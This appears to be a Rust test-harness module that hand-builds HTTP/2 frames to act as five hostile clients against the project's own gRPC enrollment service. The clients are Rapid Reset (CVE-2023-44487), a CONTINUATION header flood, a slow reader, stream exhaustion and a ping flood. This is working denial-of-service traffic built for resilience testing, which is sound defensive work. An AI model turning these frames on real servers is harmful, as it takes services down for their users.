//! HTTP/2 as no well-behaved library would send it: frames by hand, and headers without compression.

/// Opens every connection.
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
/// The setting of how much a stream may send before it is read.
const INITIAL_WINDOW_SIZE: u16 = 4;
const CANCEL: u32 = 8;
/// Takes a caller without credential, and reads the database.
const LOOKUP: &str = "/linkage.enrollment.v1.OrganizationService/LookupOrganization";
/// Answers at length, and to anybody.
const REFLECTION: &str = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo";
/// A reflection request for the file with this symbol, as gRPC frames it.
const SYMBOL: &[u8] = b"linkage.enrollment.v1.EnrollmentService";

/// What a hostile client does.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Kind {
    /// Calls, and takes each call back at once (CVE-2023-44487).
    RapidReset,
    /// Headers that never end.
    HeaderFlood,
    /// Asks for much, and reads none of it.
    SlowReader,
    /// Calls whose messages never come, as many as it can open.
    ManyStreams,
    /// Pings and settings that want to be acknowledged, whose acknowledgements it never reads.
    PingFlood,
}

impl Kind {
    pub(super) const ALL: [Kind; 5] =
        [Kind::RapidReset, Kind::HeaderFlood, Kind::SlowReader, Kind::ManyStreams, Kind::PingFlood];

    /// Whether it takes what comes back.
    pub(super) fn reads(self) -> bool {
        !matches!(self, Kind::SlowReader | Kind::PingFlood)
    }

    pub(super) fn opening(self) -> Vec<u8> {
        let window = [&INITIAL_WINDOW_SIZE.to_be_bytes()[..], &0_u32.to_be_bytes()].concat();
        let settings = if self == Kind::SlowReader { window } else { Vec::new() };
        [PREFACE.to_vec(), frame(SETTINGS, 0, 0, &settings)].concat()
    }

    /// The next thing it does on a connection, which has had so many before.
    pub(super) fn next(self, before: u32) -> Vec<u8> {
        let stream = before * 2 + 1;
        match self {
            Kind::RapidReset => {
                let reset = frame(RST_STREAM, 0, stream, &CANCEL.to_be_bytes());
                [frame(HEADERS, END_HEADERS, stream, &request(LOOKUP)), reset].concat()
            }
            Kind::HeaderFlood if before == 0 => frame(HEADERS, 0, 1, &request(LOOKUP)),
            Kind::HeaderFlood => frame(CONTINUATION, 0, 1, &junk()),
            Kind::SlowReader => {
                let headers = frame(HEADERS, END_HEADERS, stream, &request(REFLECTION));
                [headers, frame(DATA, END_STREAM, stream, &asked())].concat()
            }
            Kind::ManyStreams => frame(HEADERS, END_HEADERS, stream, &request(LOOKUP)),
            Kind::PingFlood => [frame(PING, 0, 0, &[7; 8]), frame(SETTINGS, 0, 0, &[])].concat(),
        }
    }
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).expect("a short frame").to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// The headers of a call.
fn request(path: &str) -> Vec<u8> {
    // POST and http, by their places in the static table.
    let mut block = vec![0x83, 0x86];
    for (name, value) in [(&[0x04][..], path), (&[0x01], "linkage"), (&[0x0f, 0x10], "application/grpc")] {
        block.extend_from_slice(name);
        text(&mut block, value);
    }
    field(&mut block, "te", "trailers");
    block
}

/// A kilobyte of headers that nobody asked for.
fn junk() -> Vec<u8> {
    let mut block = Vec::new();
    for _ in 0..10 {
        field(&mut block, "x-junk", &"a".repeat(90));
    }
    block
}

fn asked() -> Vec<u8> {
    // Field 4 of the request, then the length of the message before it.
    let message = [&[0x22, u8::try_from(SYMBOL.len()).expect("short")], SYMBOL].concat();
    let length = u32::try_from(message.len()).expect("short").to_be_bytes();
    [&[0][..], &length, &message].concat()
}

/// A header that is not to be remembered.
fn field(block: &mut Vec<u8>, name: &str, value: &str) {
    block.push(0);
    text(block, name);
    text(block, value);
}

fn text(block: &mut Vec<u8>, text: &str) {
    assert!(text.len() < 127, "its length has one byte");
    block.push(u8::try_from(text.len()).expect("short"));
    block.extend_from_slice(text.as_bytes());
}
